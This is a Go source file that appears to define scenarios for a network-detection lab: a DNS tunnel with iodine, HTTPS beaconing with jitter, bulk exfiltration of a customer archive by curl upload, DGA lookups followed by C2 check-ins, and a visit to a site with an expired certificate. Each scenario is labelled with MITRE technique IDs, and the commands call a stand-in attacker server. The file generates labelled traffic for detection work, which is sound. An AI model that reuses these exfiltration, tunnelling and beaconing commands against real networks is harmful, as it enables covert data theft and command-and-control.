package lab

import (
	"fmt"
	"math/rand/v2"
	"syscall"
	"time"
)

// Command and control, tunnels and exfiltration: a compromised LAN host
// talks to the outside server (203.0.113.10). The labels name the outside
// server as attacker and the compromised host as victim.

func init() {
	c2 := []string{hostExt.IPv4().String(), hostExt.IPv6().String()}
	register(
		&Scenario{
			Name: "iodine", Difficulty: Hard,
			Description: "DNS tunnel: ws1 runs the iodine client through the LAN resolver to iodined on the outside server (t.evil.example), then pings, downloads and uploads through the tunnel.",
			Tools:       []string{"iodine", "ping", "curl"}, Classes: []string{"dns.tunnel"}, MITRE: []string{"T1071.004", "T1572", "T1048.003"},
			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 30 * time.Second,
			Notes:  "ws1 is the tunnel's client (the compromised host); its queries go through the resolver 10.66.0.10, which forwards t.evil.example to 203.0.113.10",
			attack: iodineAttack,
		},
		&Scenario{
			Name: "tls-expired", Difficulty: Easy,
			Description: fmt.Sprintf("A site with an expired certificate: ws2 visits a web shop outside (%s) three times, whose certificate, "+
				"issued by a CA, expired a year ago; the server speaks TLS 1.2 only, so the certificate crosses in clear, and curl "+
				"is told to go on (-k), as a user clicks through a browser's warning.", expiredName),
			Tools: []string{"curl"}, Classes: []string{"tls.anomaly"}, MITRE: []string{"T1573.002"},
			AttackerAddrs: c2, Victims: v4(hostWS2), Duration: 10 * time.Second,
			Notes: fmt.Sprintf("the shop is the outside server (%s:%d, nginx); its issuing CA is the lab's own; the lab's other TLS servers' "+
				"certificates are self-signed and current", hostExt.IPv4(), expiredPort),
			attack: expiredAttack,
		},
		&Scenario{
			Name: "beacon", Difficulty: Medium,
			Description: "HTTPS beaconing: ws2 checks in with the C2 (c2.evil.example, outside) at a fixed period with ±30% jitter, each check-in a new DNS lookup and TLS connection.",
			Tools:       []string{"curl"}, Classes: []string{"c2.beacon", "tls.anomaly"}, MITRE: []string{"T1071.001", "T1573.002"},
			AttackerAddrs: c2, Victims: v4(hostWS2), Duration: 40 * time.Second,
			Notes:  "ws2 is the compromised host that beacons; the C2 is outside and serves a self-signed certificate (tls.anomaly)",
			attack: beaconAttack,
		},
		&Scenario{
			Name: "exfil", Difficulty: Medium,
			Description: fmt.Sprintf("Bulk exfiltration: ws1 uploads a %d MB archive over HTTPS to the outside server (4 MB/s).", exfilFileSizeMB),
			Tools:       []string{"curl"}, Classes: []string{"exfil", "tls.anomaly"}, MITRE: []string{"T1048.002"},
			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 15 * time.Second,
			Notes:  "ws1 is the compromised host that uploads; the receiving server is outside and serves a self-signed certificate (tls.anomaly)",
			attack: exfilAttack,
		},
		&Scenario{
			Name: "dga", Difficulty: Medium,
			Description: fmt.Sprintf("DGA: ws1 looks up the day's algorithmically generated domains (12–18 letters, .com/.net/.info, "+
				"the lab's own date-seeded generator) through the LAN resolver, one dig reading them as a batch at malware pace: "+
				"%d unanswered (NXDOMAIN), then the one the C2's operator registered, which resolves to the outside server; ws1 then checks in there over HTTP (%d requests).",
				dgaRegistered, dgaCheckins),
			Tools: []string{"dig", "curl"}, Classes: []string{"dns.dga"}, MITRE: []string{"T1568.002", "T1071.001"},
			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 25 * time.Second,
			Notes: "ws1 is the compromised host running the DGA; its lookups go to the resolver 10.66.0.10, which answers NXDOMAIN for names it holds no record of " +
				"(as the Internet does for unregistered domains) and the day's registered name (and the next day's) with the C2, 203.0.113.10, outside",
			attack: dgaAttack,
		},
	)
}

func iodineAttack(a *attackRun) error {
	client := []string{"iodine", "-f", "-r", "-P", iodinePassword, hostServer.IPv4().String(), tunnelDomain}
	return a.during(hostWS1, syscall.SIGTERM, client, func() error {
		if err := a.phase("tunnel setup", func() error { return waitTunnel(a) }); err != nil {
			return err
		}
		far := hostAddr(tunnelNet4, 1).String()
		return a.phase("data through the tunnel", func() error {
			return a.sequence(
				func() error { return a.run(hostWS1, "ping", "-n", "-c", "5", "-i", "0.5", far) },
				func() error {
					return a.run(hostWS1, "curl", "-s", "--max-time", seconds(a.duration), "-o", "/dev/null", "http://"+far+"/update.bin")
				},
				func() error {
					return a.run(hostWS1, "curl", "-s", "--max-time", seconds(a.duration), "-o", "/dev/null",
						"-T", a.w.path("www/static/site.css"), "http://"+far+"/upload/notes.txt")
				},
			)
		})
	})
}

// waitTunnel waits until ws1 has the tunnel's address (iodine configured
// its interface).
func waitTunnel(a *attackRun) error {
	if a.dryRun {
		return nil
	}
	deadline := time.Now().Add(a.duration)
	for time.Now().Before(deadline) {
		out, _ := a.sup.output(a.ctx, hostWS1.NS(), "tunnel-check@ws1", []string{"ip", "-4", "-o", "addr", "show"})
		if containsAddr(out, tunnelNet4) {
			return nil
		}
		if err := a.sleep(500 * time.Millisecond); err != nil {
			return err
		}
	}
	return fmt.Errorf("iodine: no tunnel after %s", a.duration)
}

func beaconAttack(a *attackRun) error {
	period := max(time.Second, a.duration/30) // ~30 check-ins: enough for a beacon score
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 7))
	deadline := a.now().Add(a.duration)
	for n := 0; ; n++ {
		url := fmt.Sprintf("https://%s/api/v1/checkin?id=ws2-7f3a&n=%d", c2Name, n)
		err := a.run(hostWS2, "curl", "-s", "-k", "--max-time", "5", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
			"-o", "/dev/null", url)
		if err != nil {
			return err
		}
		jitter := time.Duration((rng.Float64()*0.6 - 0.3) * float64(period))
		if a.now().Add(period + jitter).After(deadline) {
			return nil
		}
		if err := a.sleep(period + jitter); err != nil {
			return err
		}
	}
}

func exfilAttack(a *attackRun) error {
	return a.run(hostWS1, "curl", "-s", "-k", "--limit-rate", "4M", "--max-time", seconds(2*a.duration+30*time.Second),
		"-o", "/dev/null", "-T", a.w.path("exfil/customers.tar.gz"),
		fmt.Sprintf("https://%s/upload/customers.tar.gz", hostExt.IPv4()))
}

// dgaCheckins is how many times the bot checks in with the C2 it found.
const dgaCheckins = 2

// dgaAttack has ws1 look up the day's generated names in order, the
// registered one last, with one dig reading them from a FIFO that the
// lab writes at the bot's pace (dig reads its batch file a line at a
// time), then check in with the C2 by the name that answered.
func dgaAttack(a *attackRun) error {
	names := dgaNames(a.now(), dgaRegistered+1)
	gap := a.duration * 4 / 5 / time.Duration(len(names))
	fifo := a.w.path("dga/names")
	if !a.dryRun {
		if err := a.makeFIFO(fifo); err != nil {
			return err
		}
	}
	dig := []string{"dig", "-f", fifo, "+tries=1", "+time=1", "+noall", "+comments", "@" + hostServer.IPv4().String()}
	err := a.phase("generated lookups", func() error {
		return a.feed(hostWS1, dig, fifo, names, gap)
	})
	if err != nil {
		return err
	}
	c2 := names[len(names)-1]
	return a.phase("check-in", func() error {
		for n := range dgaCheckins {
			if n > 0 {
				if err := a.sleep(2 * time.Second); err != nil {
					return err
				}
			}
			url := fmt.Sprintf("http://%s/api/v1/checkin?bot=b7e2c91a&n=%d", c2, n)
			if err := a.run(hostWS1, "curl", "-s", "--max-time", "5", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "-o", "/dev/null", url); err != nil {
				return err
			}
		}
		return nil
	})
}

// expiredAttack has ws2 fetch the expired shop's page three times, a
// third of the phase apart.
func expiredAttack(a *attackRun) error {
	url := fmt.Sprintf("https://%s:%d/", expiredName, expiredPort)
	for i := range 3 {
		if i > 0 {
			if err := a.sleep(a.duration / 3); err != nil {
				return err
			}
		}
		if err := a.run(hostWS2, "curl", "-s", "-k", "--max-time", "5", "-o", "/dev/null", url); err != nil {
			return err
		}
	}
	return nil
}
